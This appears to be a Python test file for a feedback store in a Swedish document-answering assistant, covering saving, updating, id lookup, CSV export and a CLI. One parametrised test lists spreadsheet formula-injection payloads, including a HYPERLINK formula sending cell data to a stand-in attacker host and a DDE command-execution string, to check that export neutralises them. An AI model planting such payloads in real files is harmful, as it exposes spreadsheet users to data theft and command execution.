"""Feedback store: one row per answer, updates, CSV export and the CLI."""

from __future__ import annotations

import csv
import io
import json

import pytest

from assistant.cli import main
from assistant.feedback import Feedback, FeedbackError, FeedbackStore, safe_cell, write_csv
from assistant.models import Citation

CITATION = Citation("Hemsjukvården ska ge trygg vård.", "hemsjukvard-2021", "Hemsjukvård i kommunen", "Mål", 2, "c-1")


def _feedback(**changes) -> Feedback:
    values = dict(
        answer_id="a-1",
        question="Vad ska hemsjukvården ge?",
        answer="Enligt dokumenten: Hemsjukvården ska ge trygg vård. [1]",
        citations=(CITATION,),
        rating="up",
        backend="extractive",
    )
    values.update(changes)
    return Feedback(**values)


def test_save_then_read_back_keeps_question_answer_and_citations(tmp_path) -> None:
    store = FeedbackStore(tmp_path / "sub" / "feedback.sqlite")
    store.save(_feedback())
    [entry] = store.all()
    assert entry == _feedback()
    assert entry.citations[0].chunk_id == "c-1"
    assert entry.created


def test_a_later_rating_or_comment_updates_the_same_row(tmp_path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.save(_feedback(rating="up"))
    store.save(_feedback(rating="down", comment="Fel sida"))
    store.save(_feedback(answer_id="a-2", rating="up"))
    entries = {e.answer_id: e for e in store.all()}
    assert len(entries) == 2
    assert (entries["a-1"].rating, entries["a-1"].comment) == ("down", "Fel sida")


def test_the_feedback_of_given_answers_is_read_by_id_and_only_theirs(tmp_path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    for answer_id in ("a-1", "a-2", "a-3"):
        store.save(_feedback(answer_id=answer_id, comment=f"om {answer_id}"))
    given = store.given_on(["a-3", "a-1", "a-9", "a-1"])
    assert {answer_id: entry.comment for answer_id, entry in given.items()} == {"a-1": "om a-1", "a-3": "om a-3"}
    assert given["a-1"] == _feedback(comment="om a-1")
    assert store.given_on([]) == {}
    # More ids than SQLite takes parameters in one statement (32,766): they travel as one JSON array.
    many = [f"b-{n}" for n in range(40_000)] + ["a-2"]
    assert list(store.given_on(many)) == ["a-2"]


def test_export_csv_has_a_header_and_one_row_per_answer(tmp_path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.save(_feedback(comment='Bra, men "källan" saknar sida;\nnästa rad'))
    out = io.StringIO()
    assert store.export_csv(out) == 1
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 1
    assert rows[0]["comment"] == 'Bra, men "källan" saknar sida;\nnästa rad'
    assert json.loads(rows[0]["citations"])[0]["title"] == "Hemsjukvård i kommunen"


def test_unwritable_location_raises_a_swedish_feedback_error(tmp_path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(FeedbackError) as caught:
        FeedbackStore(blocker / "feedback.sqlite")
    assert "Återkopplingen" in caught.value.user_message


def test_cli_exports_to_a_file_and_to_stdout(tmp_path, monkeypatch, capsys) -> None:
    database = tmp_path / "feedback.sqlite"
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(database))
    FeedbackStore(database).save(_feedback())
    target = tmp_path / "export.csv"
    assert main(["feedback", "--export", str(target)]) == 0
    assert list(csv.DictReader(target.open(encoding="utf-8")))[0]["rating"] == "up"
    capsys.readouterr()
    assert main(["feedback", "--export"]) == 0
    assert "Vad ska hemsjukvården ge?" in capsys.readouterr().out
    assert main(["feedback"]) == 0
    assert "1 svar med återkoppling" in capsys.readouterr().out


FORMULAS = [
    '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_export_neutralises_formula_cells_with_a_leading_quote(tmp_path, formula: str) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.save(_feedback(comment=formula, question=formula, backend=formula))
    out = io.StringIO()
    store.export_csv(out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["comment"] == row["question"] == row["backend"] == "'" + formula
    assert row["answer"] == _feedback().answer  # other cells untouched
    assert json.loads(row["citations"])[0]["chunk_id"] == "c-1"


def test_write_csv_neutralises_the_same_cells() -> None:
    out = io.StringIO()
    write_csv([_feedback(comment="=1+1", answer="@x")], out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["comment"], row["answer"], row["question"]) == ("'=1+1", "'@x", "Vad ska hemsjukvården ge?")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("Bra svar", "Bra svar"),
        ("", ""),
        (None, ""),
        ("a=b", "a=b"),
        ("'=redan citerad", "'=redan citerad"),  # already text to a spreadsheet
        (" =1", " =1"),
        ("-", "'-"),
        (5, "5"),
    ],
)
def test_safe_cell_only_changes_cells_that_start_like_a_formula(cell, safe: str) -> None:
    assert safe_cell(cell) == safe


def test_one_damaged_row_does_not_stop_the_export(tmp_path) -> None:
    import sqlite3

    database = tmp_path / "feedback.sqlite"
    store = FeedbackStore(database)
    store.save(_feedback(answer_id="a-1"))
    store.save(_feedback(answer_id="a-2"))
    with sqlite3.connect(database) as connection:
        connection.execute("UPDATE feedback SET citations = '{inte json' WHERE answer_id = 'a-1'")
        connection.execute("UPDATE feedback SET comment = CAST(X'ff3d31' AS TEXT) WHERE answer_id = 'a-2'")
    out = io.StringIO()
    assert store.export_csv(out) == 2
    rows = {r["answer_id"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["a-1"]["citations"] == "{inte json"
    assert rows["a-2"]["comment"] == "\ufffd=1"
    assert {e.answer_id: e.citations for e in store.all()}["a-1"] == ()


def test_who_gave_the_feedback_is_stored_updated_and_exported(tmp_path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.save(_feedback(user_id="key:intranatet"))
    store.save(_feedback(answer_id="a-2", user_id="login:anna@regionsormland.se"))
    store.save(_feedback(answer_id="a-2", rating="down", user_id="login:anna@regionsormland.se"))
    assert {e.answer_id: e.user_id for e in store.all()} == {
        "a-1": "key:intranatet",
        "a-2": "login:anna@regionsormland.se",
    }
    out = io.StringIO()
    store.export_csv(out)
    assert sorted(r["user_id"] for r in csv.DictReader(io.StringIO(out.getvalue()))) == [
        "key:intranatet",
        "login:anna@regionsormland.se",
    ]
